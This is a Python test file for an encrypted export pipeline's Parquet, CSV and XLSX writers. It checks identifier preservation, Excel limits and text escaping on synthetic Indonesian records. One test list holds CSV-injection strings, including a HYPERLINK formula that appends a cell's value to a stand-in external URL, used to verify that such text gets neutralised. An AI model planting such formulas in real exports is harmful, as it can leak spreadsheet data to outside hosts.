"""Delivery formats: each round-trips through age encryption, keeps identifiers whole, and keeps
to its limits. XLSX files are read back with openpyxl and pandas (independent readers) and by
parsing the parts with zipfile + ElementTree."""

from __future__ import annotations

import datetime
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.csv as pcsv
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ageformat import AgeWriter, decrypt_file, generate_identity
from exports.formats import xlsx_stream
from exports.formats.sinks import HashingStream
from exports.formats.writers import FORMATS, ROW_GROUP_ROWS, SUFFIXES, FormatError, open_writer
from pks_partner import manifest

IDENTITY, RECIPIENT = generate_identity()
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
METADATA = {
    b"pks.agreement": b"PKS-2026-001",
    b"pks.version": b"3",
    b"pks.masks": b'{"nik": "token", "tanggal_lahir": "year_month"}',
}
SCHEMA = pa.schema(
    [
        pa.field("nik", pa.string()),
        pa.field("nama", pa.string()),
        pa.field("tanggal_lahir", pa.date32()),
        pa.field("agama", pa.int32()),
        pa.field("wajib_ktp", pa.bool_()),
    ],
    metadata=METADATA,
)
# Synthetic values, never real people; the leading zeros are what spreadsheets like to drop.
NIKS = ["0012345678901234", "3201019912310001", "9999999999999999", None]
NAMES = ["Siti Aminah", " Budi & <Sons> ", "Ñoño\r\nbaris", None]
DATES = [datetime.date(1985, 7, 12), datetime.date(1899, 12, 31), datetime.date(2001, 1, 1), None]


def sample_batch(repeat: int = 1) -> pa.RecordBatch:
    return pa.record_batch(
        [
            pa.array(NIKS * repeat),
            pa.array(NAMES * repeat),
            pa.array(DATES * repeat, pa.date32()),
            pa.array([1, 2, 7, None] * repeat, pa.int32()),
            pa.array([True, False, True, None] * repeat),
        ],
        schema=SCHEMA,
    )


def deliver(tmp_path: Path, format: str, batches: list[pa.RecordBatch]) -> bytes:
    """Encode into an AgeWriter as the pipeline does, then decrypt with decrypt_file."""
    sink = io.BytesIO()
    encrypted = AgeWriter(sink, [RECIPIENT])
    writer = open_writer(format, HashingStream(encrypted), SCHEMA)
    for batch in batches:
        writer.write_batch(batch)
    writer.close()
    assert writer.rows == sum(b.num_rows for b in batches)
    encrypted.close()
    source, out = tmp_path / f"d{SUFFIXES[format]}.age", tmp_path / f"d{SUFFIXES[format]}"
    source.write_bytes(sink.getvalue())
    decrypt_file(source, IDENTITY, out)
    return out.read_bytes()


def xlsx_xml(data: bytes, part: str = "xl/worksheets/sheet1.xml") -> ET.Element:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return ET.fromstring(archive.read(part))  # noqa: S314  (our own output)


def excel_text(text: str) -> str:
    """Decode `_xHHHH_` as Excel does (openpyxl leaves inline strings as written)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def test_formats_and_suffixes_agree() -> None:
    assert set(SUFFIXES) == set(FORMATS)
    assert all(SUFFIXES[f] == f".{f}" for f in FORMATS)


def test_unknown_format_is_refused_by_name() -> None:
    with pytest.raises(FormatError, match="'json'"):
        open_writer("json", io.BytesIO(), SCHEMA)


@pytest.mark.parametrize("format", FORMATS)
def test_a_batch_of_another_schema_is_refused(format: str) -> None:
    writer = open_writer(format, io.BytesIO(), SCHEMA)
    other = pa.record_batch([pa.array(["x"])], names=["nik"])
    with pytest.raises(FormatError, match=format):
        writer.write_batch(other)


@pytest.mark.parametrize("format", FORMATS)
def test_close_leaves_the_stream_open(format: str) -> None:
    stream = io.BytesIO()
    writer = open_writer(format, stream, SCHEMA)
    writer.write_batch(sample_batch())
    writer.close()
    assert not stream.closed and stream.getvalue()


def test_parquet_round_trip_with_zstd_and_schema_metadata(tmp_path: Path) -> None:
    data = deliver(tmp_path, "parquet", [sample_batch(), sample_batch(2)])
    parquet = pq.ParquetFile(io.BytesIO(data))
    table = parquet.read()
    assert table.equals(pa.Table.from_batches([sample_batch(3)]))
    assert table.schema.metadata is not None
    assert {k: table.schema.metadata[k] for k in METADATA} == METADATA
    columns = parquet.metadata.row_group(0)
    assert {columns.column(i).compression for i in range(columns.num_columns)} == {"ZSTD"}


def test_parquet_gathers_small_batches_into_large_row_groups() -> None:
    stream = io.BytesIO()
    writer = open_writer("parquet", stream, SCHEMA)
    small = sample_batch(250)  # 1,000 rows, like ADBC's default batches
    batches = 100
    for _ in range(batches):
        writer.write_batch(small)
    writer.close()
    metadata = pq.ParquetFile(io.BytesIO(stream.getvalue())).metadata
    sizes = [metadata.row_group(i).num_rows for i in range(metadata.num_row_groups)]
    assert sum(sizes) == batches * small.num_rows
    assert len(sizes) == 2 and sizes[0] >= ROW_GROUP_ROWS


def test_csv_round_trip_keeps_header_text_and_nulls(tmp_path: Path) -> None:
    data = deliver(tmp_path, "csv", [sample_batch(), sample_batch()])
    text = data.decode("utf-8")
    assert text.splitlines()[0] == ",".join(f'"{name}"' for name in SCHEMA.names)
    assert '"0012345678901234"' in text
    table = pcsv.read_csv(
        io.BytesIO(data),
        convert_options=pcsv.ConvertOptions(
            column_types=SCHEMA, strings_can_be_null=True, quoted_strings_can_be_null=False
        ),
    )
    assert table.equals(pa.Table.from_batches([sample_batch(2)]).replace_schema_metadata(None))


# Text a spreadsheet would run as a formula (OWASP CSV injection), and text it would not.
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1)', "@SUM(A1:A9)", "+62 811", "-5", "\tx", "\ry"]
HARMLESS = ["a=b", " =1", "'=quoted", "", "Siti", "0812-345", None]


def test_csv_prefixes_text_that_a_spreadsheet_would_run_as_a_formula(tmp_path: Path) -> None:
    values = FORMULAS + HARMLESS
    batch = pa.record_batch(
        [
            pa.array(values),
            pa.array(values[::-1]),
            pa.array([None] * len(values), pa.date32()),
            pa.array([-1] * len(values), pa.int32()),  # a number: never text, never prefixed
            pa.array([None] * len(values), pa.bool_()),
        ],
        schema=SCHEMA,
    )
    data = deliver(tmp_path, "csv", [batch])
    table = pcsv.read_csv(
        io.BytesIO(data),
        parse_options=pcsv.ParseOptions(newlines_in_values=True),
        convert_options=pcsv.ConvertOptions(
            column_types=SCHEMA, strings_can_be_null=True, quoted_strings_can_be_null=False
        ),
    )
    expected = ["'" + v for v in FORMULAS] + HARMLESS
    assert table.column("nik").to_pylist() == expected
    assert table.column("nama").to_pylist() == expected[::-1]
    assert table.column("agama").to_pylist() == [-1] * len(values)
    # Parquet and XLSX carry text as text, never as a formula: their values are left as they are.
    parquet = pq.read_table(io.BytesIO(deliver(tmp_path, "parquet", [batch])))
    assert parquet.column("nik").to_pylist() == values


def test_csv_prefixes_large_string_text_too() -> None:
    schema = pa.schema([pa.field("catatan", pa.large_string())])
    sink = io.BytesIO()
    writer = open_writer("csv", sink, schema)
    writer.write_batch(
        pa.record_batch([pa.array(["=1+1", "ok"], pa.large_string())], schema=schema)
    )
    writer.close()
    assert sink.getvalue().decode("utf-8").splitlines() == ['"catatan"', '"\'=1+1"', '"ok"']


def test_empty_delivery_is_a_valid_file_of_each_format(tmp_path: Path) -> None:
    assert pq.read_table(io.BytesIO(deliver(tmp_path, "parquet", []))).num_rows == 0
    assert deliver(tmp_path, "csv", []).decode().splitlines() == [
        ",".join(f'"{n}"' for n in SCHEMA.names)
    ]
    sheet = openpyxl.load_workbook(io.BytesIO(deliver(tmp_path, "xlsx", []))).active
    assert sheet is not None
    assert [c.value for c in sheet[1]] == SCHEMA.names and sheet.max_row == 1


def test_xlsx_round_trip_read_by_openpyxl(tmp_path: Path) -> None:
    data = deliver(tmp_path, "xlsx", [sample_batch(), sample_batch()])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == SCHEMA.names
    assert len(rows) == 1 + 7  # the last record is all null: an empty row ends no sheet
    first = rows[1]
    assert first[0] == "0012345678901234"  # text, every digit
    assert first[1] == "Siti Aminah"
    assert first[2] == datetime.datetime(1985, 7, 12)  # a real date cell
    assert first[3] == 1 and first[4] is True
    second = rows[2]
    assert second[1] == " Budi & <Sons> "  # edge spaces and XML characters kept
    assert second[2] == "1899-12-31"  # before Excel's reliable calendar: ISO text
    assert second[4] is False
    assert rows[3][1] == "Ñoño\r\nbaris"
    assert all(value is None for value in rows[4])  # nulls are absent cells
    assert sheet["C2"].number_format == "yyyy\\-mm\\-dd"


def test_xlsx_identifiers_are_inline_text_cells(tmp_path: Path) -> None:
    data = deliver(tmp_path, "xlsx", [sample_batch()])
    cells = {c.get("r"): c for c in xlsx_xml(data).iter(f"{MAIN}c")}
    for row, nik in enumerate(NIKS, start=2):
        if nik is None:
            assert f"A{row}" not in cells
            continue
        cell = cells[f"A{row}"]
        assert cell.get("t") == "inlineStr"
        assert cell.findtext(f"{MAIN}is/{MAIN}t") == nik
    assert cells["D2"].get("t") is None and cells["D2"].findtext(f"{MAIN}v") == "1"
    assert cells["E2"].get("t") == "b"


def test_xlsx_read_by_pandas_keeps_identifiers(tmp_path: Path) -> None:
    data = deliver(tmp_path, "xlsx", [sample_batch()])
    frame = pd.read_excel(io.BytesIO(data), dtype={"nik": str})
    assert list(frame.columns) == SCHEMA.names
    assert frame["nik"].tolist()[:3] == NIKS[:3]


def test_xlsx_zip_is_classic_and_deflated(tmp_path: Path) -> None:
    # Office has been reported to reject small parts carrying ZIP64 fields, and LibreOffice
    # rejects STORED parts with data descriptors: every part deflated, none ZIP64.
    data = deliver(tmp_path, "xlsx", [sample_batch()])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        infos = archive.infolist()
        assert archive.testzip() is None
    assert [i.filename for i in infos] == [
        "[Content_Types].xml",
        "_rels/.rels",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/styles.xml",
        "xl/worksheets/sheet1.xml",
    ]
    assert {i.compress_type for i in infos} == {zipfile.ZIP_DEFLATED}
    assert {i.extract_version for i in infos} == {20}
    assert all(i.flag_bits & 0x08 for i in infos)  # written forward, sizes after the data


def test_xlsx_numbers_beyond_excel_precision_and_odd_floats_become_text() -> None:
    schema = pa.schema([("n", pa.int64()), ("f", pa.float64())])
    batch = pa.record_batch(
        [pa.array([10**15 - 1, 10**15, -(10**16)]), pa.array([0.5, float("nan"), float("inf")])],
        schema=schema,
    )
    stream = io.BytesIO()
    writer = open_writer("xlsx", stream, schema)
    writer.write_batch(batch)
    writer.close()
    rows = list(openpyxl.load_workbook(io.BytesIO(stream.getvalue())).active.values)  # type: ignore[union-attr]
    assert rows[1:] == [
        (10**15 - 1, 0.5),
        ("1000000000000000", "nan"),
        ("-10000000000000000", "inf"),
    ]


def test_xlsx_row_limit_is_refused_before_the_row_that_exceeds_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(xlsx_stream, "EXCEL_MAX_ROWS", 6)  # the header and five rows
    stream = io.BytesIO()
    writer = open_writer("xlsx", stream, SCHEMA)
    writer.write_batch(sample_batch())  # 4 rows: 5 with the header
    with pytest.raises(FormatError, match=r"at most 6 rows including the header") as refused:
        writer.write_batch(sample_batch().slice(0, 2))
    assert "0012345678901234" not in str(refused.value)
    assert writer.rows == 4
    writer.write_batch(sample_batch().slice(0, 1))  # exactly at the limit is fine
    writer.close()
    assert len(list(openpyxl.load_workbook(io.BytesIO(stream.getvalue())).active.values)) == 6  # type: ignore[union-attr]


def test_excel_row_limit_is_excels() -> None:
    assert xlsx_stream.EXCEL_MAX_ROWS == 1_048_576


def test_xlsx_refuses_a_cell_longer_than_excel_holds_without_quoting_it() -> None:
    schema = pa.schema([("catatan", pa.string())])
    writer = open_writer("xlsx", io.BytesIO(), schema)
    secret = "Rahasia" + "x" * xlsx_stream.EXCEL_MAX_CELL_CHARS
    with pytest.raises(FormatError, match="catatan") as refused:
        writer.write_batch(pa.record_batch([pa.array([secret])], schema=schema))
    assert "Rahasia" not in str(refused.value)
    with pytest.raises(FormatError, match="earlier write"):
        writer.close()  # a failed file is never finished to look whole


def test_xlsx_refuses_a_column_type_it_cannot_hold() -> None:
    schema = pa.schema([("daftar", pa.list_(pa.string()))])
    with pytest.raises(FormatError, match="daftar"):
        open_writer("xlsx", io.BytesIO(), schema)


text_values = st.text(
    alphabet=st.characters(exclude_categories=["Cs"]), max_size=40
) | st.sampled_from(
    ["_x0041_", "_x0041_x0042_x0043_", "__x00e9__", " lead", "trail\t", "\x00\x1f\ufffe"]
)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(st.none(), text_values), min_size=1, max_size=8), text_values)
def test_xlsx_text_round_trips_as_excel_reads_it(values: list[str | None], name: str) -> None:
    schema = pa.schema([(name or "kolom", pa.string())])
    stream = io.BytesIO()
    writer = open_writer("xlsx", stream, schema)
    writer.write_batch(pa.record_batch([pa.array(values, pa.string())], schema=schema))
    writer.close()
    sheet = xlsx_xml(stream.getvalue())
    read = {
        c.get("r"): excel_text("".join(c.itertext()))
        for c in sheet.iter(f"{MAIN}c")
        if c.get("t") == "inlineStr"
    }

    def legal(text: str) -> str:
        return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "\ufffd", text)

    assert read["A1"] == legal(name or "kolom")
    for row, value in enumerate(values, start=2):
        assert read.get(f"A{row}") == (None if value is None else legal(value))


def test_a_manifest_names_every_format_the_writers_write() -> None:
    """The partner client's manifest reader (pks_partner.manifest) knows the formats without the
    writers: the same ones, each file named `<id>.<format>.age`."""
    assert manifest.FORMATS == FORMATS
    assert {name: f".{name}" for name in FORMATS} == SUFFIXES
